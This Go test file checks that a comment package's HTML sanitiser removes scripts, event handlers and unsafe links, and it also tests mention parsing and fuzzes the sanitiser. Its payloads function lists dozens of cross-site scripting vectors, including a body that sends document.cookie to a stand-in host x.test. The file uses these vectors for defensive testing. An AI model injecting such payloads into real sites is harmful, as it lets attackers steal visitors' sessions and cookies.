package comment

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// Whatever a text holds, its page form has no element, attribute or link that
// runs or loads anything.
func TestHTMLIsHarmless(t *testing.T) {
	for _, text := range payloads() {
		harmless(t, text)
	}
}

// harmless reads the page form as a browser does.
func harmless(t *testing.T, text string) {
	t.Helper()
	allowed := map[string]bool{"p": true, "br": true, "strong": true, "b": true, "em": true, "i": true, "del": true, "code": true, "pre": true,
		"blockquote": true, "ul": true, "ol": true, "li": true, "a": true, "html": true, "head": true, "body": true}
	doc, err := html.Parse(strings.NewReader(HTML(text)))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type == html.CommentNode || n.Type == html.ElementNode && !allowed[n.Data] {
			t.Errorf("%q: %s is left", text, n.Data)
		}
		for _, a := range n.Attr {
			link := a.Key == "href" && (strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "https://"))
			if !link && a.Key != "rel" && a.Key != "target" {
				t.Errorf("%q: %s=%q is left", text, a.Key, a.Val)
			}
		}
	}
}

// payloads are attacks that pages have fallen for.
func payloads() (list []string) {
	for _, js := range []string{"alert(1)", "fetch('//x.test/'+document.cookie)"} {
		for _, form := range []string{
			"<script>%s</script>", "<SCRIPT SRC=//x.test/%s></SCRIPT>", "<scr<script>ipt>%s</scr</script>ipt>", "<img src=x onerror=%s>",
			"<img/src=x/onerror=%s>", "<svg onload=%s>", "<svg><script>%s</script></svg>", "<svg><animate onbegin=%s attributeName=x dur=1s>",
			"<math><mtext></mtext><mglyph><style><img src=x onerror=%s>", "<body onload=%s>", "<iframe src=javascript:%s></iframe>",
			"<iframe srcdoc='<script>%s</script>'></iframe>", "<object data=javascript:%s></object>", "<embed src=javascript:%s>",
			"<a href=javascript:%s>x</a>", "<a href=' javascript:%s'>x</a>", "<a href=java\nscript:%s>x</a>", "<a href=&#106;avascript:%s>x</a>",
			"<a href=data:text/html,%s>x</a>", "<a href=vbscript:%s>x</a>", "<a href=//x.test onmouseover=%s>x</a>", "<p style='background:url(javascript:%s)'>x",
			"<p onclick=%s>x</p>", "<p class=x id=%s>x</p>", "<form action=javascript:%s><input type=submit>", "<base href=javascript:%s//>",
			"<meta http-equiv=refresh content='0;url=javascript:%s'>", "<link rel=stylesheet href=javascript:%s>", "<style>@import 'javascript:%s'</style>",
			"<video><source onerror=%s></video>", "<details open ontoggle=%s>", "<template><script>%s</script></template>", "<noscript><p title='</noscript><img src=x onerror=%s>'>",
			"<textarea></textarea><script>%s</script>", "<!--><script>%s</script>-->", "<![CDATA[<script>%s</script>]]>", "<xmp><script>%s</script></xmp>",
			"\"><script>%s</script>", "'-%s-'", "<p>\x00<script>%s</script>", "<b <script>%s</script>>x</b>", "<button autofocus onfocus=%s>", "[x](javascript:%s)",
		} {
			list = append(list, fmt.Sprintf(form, js))
		}
	}
	return list
}

// What people write is shown as they meant it.
func TestHTML(t *testing.T) {
	for text, want := range map[string]string{
		"plain":                  "plain",
		"two\nlines":             "two<br>lines",
		"1 < 2 & 3 > 2":          "1 &lt; 2 &amp; 3 &gt; 2",
		"<p>a</p>\n<p>b</p>":     "<p>a</p>\n<p>b</p>",
		"<p>See <b>this</b></p>": "<p>See <b>this</b></p>",
		`<p><span class="h-card"><a href="https://two.test/@a" class="u-url mention">@<span>a</span></a></span></p>`: `<p><a href="https://two.test/@a" rel="nofollow noreferrer noopener" target="_blank">@a</a></p>`,
	} {
		if got := HTML(text); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}

// Whom a text calls is found, and an address of mail calls nobody.
func TestMentions(t *testing.T) {
	for text, want := range map[string]string{
		"@alice hello":               "[{alice }]",
		"hello @alice, @bob.":        "[{alice } {bob }]",
		"@carol@Two.test:9000 yes":   "[{carol two.test:9000}]",
		"(@alice)@bob":               "[{alice } {bob }]",
		"mail me@one.test":           "[]",
		"https://two.test/@alice":    "[]",
		"@alice @alice":              "[{alice }]",
		"@a.b-c_d!":                  "[{a.b-c_d }]",
		"@ alice @@bob @":            "[]",
		"<p>@<span>alice</span></p>": "[]",
	} {
		if got := fmt.Sprint(Mentions(text)); got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
	}
	if n := len(Mentions(strings.Repeat("@a ", 10) + many(200))); n != maxMentions {
		t.Errorf("a text calls %d, want at most %d", n, maxMentions)
	}
}

func many(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "@user%d ", i)
	}
	return b.String()
}

// FuzzText finds texts of other servers that break what is made of them.
func FuzzText(f *testing.F) {
	for _, p := range payloads() {
		f.Add(p)
	}
	f.Add("@alice@two.test\n<p>")
	f.Fuzz(func(t *testing.T, text string) {
		harmless(t, text)
		if n := len(Mentions(text)); n > maxMentions {
			t.Errorf("%d mentions", n)
		}
	})
}
